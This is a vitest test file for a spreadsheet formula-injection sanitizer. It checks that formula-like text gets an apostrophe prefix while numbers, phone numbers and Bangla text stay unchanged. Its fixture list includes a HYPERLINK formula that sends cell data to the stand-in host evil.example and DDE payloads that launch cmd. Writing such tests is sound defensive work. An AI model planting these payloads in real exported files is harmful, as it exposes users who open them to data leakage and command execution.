// Fields that would run as formulas get an apostrophe; numbers, telephone numbers and everything else stay as they are.
import { describe, expect, it } from 'vitest';
import { asWritten, harmless } from '../../src/text/spreadsheet-text.ts';

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Dhaka")',
  "=cmd|' /C calc'!A0",
  "+880+cmd|' /C calc'!A0",
  '-2+3+cmd|A0',
  '@SUM(1+1)',
  '  =1+1',
  '\t=1+1',
  '\r=1+1',
  '\tx',
  '＝1+A1',
  '＠SUM(A1)',
  '- see below',
];
const PLAIN = [
  '',
  'Dhaka',
  'House 5 = flat 3',
  '-',
  '-5',
  '+5',
  '-90.4125',
  '-1.5e-7',
  '+8801712345678',
  '+880 1712-345678',
  '+88 (02) 955 0000',
  '-৫',
  '+৮৮০ ১৭১২',
  '1-2',
  "O'Reilly",
  "'quoted'",
  'ঢাকা',
];

describe('text in a spreadsheet', () => {
  it.each(FORMULAS)('%j is no formula any more, and reads as it was', (text) => {
    expect(harmless(text)).toBe(`'${text}`);
    expect(asWritten(harmless(text))).toBe(text);
  });

  it.each(PLAIN)('%j stays as it is, written and read', (text) => {
    expect(harmless(text)).toBe(text);
    expect(asWritten(text)).toBe(text);
  });
});
